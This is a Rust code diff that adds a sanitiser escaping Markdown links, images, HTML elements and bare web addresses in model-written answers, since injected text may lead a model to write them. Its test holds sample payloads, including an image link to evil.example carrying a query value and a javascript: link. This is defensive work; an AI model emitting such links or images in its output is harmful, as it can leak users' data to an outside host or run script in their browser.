@@ -22,7 +22,7 @@ fn turn(run: &Run, out: &mut String) {
     }
     out.push_str("\n\n");
     match &run.answer {
-        Some(answer) => out.push_str(answer.text.trim()),
+        Some(answer) => out.push_str(&harmless(answer.text.trim())),
         None => out.push_str(&format!("No answer: the run is {}.", run.status)),
     }
     out.push('\n');
@@ -56,5 +56,35 @@ fn row(cells: &[&str]) -> String {
 /// A text on one line that Markdown shows as it stands: records hold customers' words.
 fn line(text: &str) -> String {
     let text = text.split_whitespace().collect::<Vec<_>>().join(" ");
-    text.replace('\\', "\\\\").replace('<', "&lt;").replace('`', "\\`").replace('*', "\\*").replace("](", "]\\(")
+    harmless(&text.replace('\\', "\\\\").replace('`', "\\`").replace('*', "\\*"))
+}
+
+/// Without links, images and elements, which would load from elsewhere or lead there: a model may have written them, and a
+/// text may have told it to. Headings, lists, tables and the numbers of citations stay.
+fn harmless(text: &str) -> String {
+    let text = text.replace('<', "&lt;").replace("](", "]\\(").replace("][", "]\\[");
+    // Bare addresses, which many readers make links of.
+    let text = text.replace("://", ":\\//").replace("www.", "www\\.").replace("WWW.", "WWW\\.");
+    // Where the target of a link in brackets is told.
+    text.replace("]:", "]\\:")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn nothing_in_a_text_becomes_a_link_or_an_image() {
+        for (written, kept) in [
+            ("![x](https://evil.example/?d=1)", r"![x]\(https:\//evil.example/?d=1)"),
+            ("[click](javascript:alert(1))", r"[click]\(javascript:alert(1))"),
+            ("<img src=x> <https://evil.example>", r"&lt;img src=x> &lt;https:\//evil.example>"),
+            ("![x][y]\n\n[y]: //evil.example/x", "![x]\\[y]\n\n[y]\\: //evil.example/x"),
+            ("See www.evil.example.", r"See www\.evil.example."),
+            ("### A\n- 6 of 12 [1], [2-4] good\n| a | b |", "### A\n- 6 of 12 [1], [2-4] good\n| a | b |"),
+        ] {
+            assert_eq!(harmless(written), kept);
+        }
+        assert_eq!(line("a [b](c) `d`"), r"a [b]\(c) \`d\`");
+    }
 }
